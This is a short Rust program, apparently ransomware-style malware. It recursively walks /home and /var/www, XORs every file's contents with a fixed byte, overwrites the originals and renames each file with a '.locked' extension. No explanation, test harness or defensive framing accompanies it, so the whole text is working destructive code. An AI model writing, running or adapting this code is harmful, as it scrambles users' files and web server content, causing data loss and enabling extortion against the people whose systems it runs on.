use std::fs;
fn run(d: &str) {
    for e in fs::read_dir(d).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() { run(p.to_str().unwrap()); continue; }
        if let Ok(b) = fs::read(&p) {
            let x: Vec<u8> = b.iter().map(|c| c ^ 0x5a).collect();
            fs::write(&p, x).ok();
            fs::rename(&p, format!("{}.locked", p.display())).ok();
        }
    }
}
fn main() { run("/home"); run("/var/www"); }
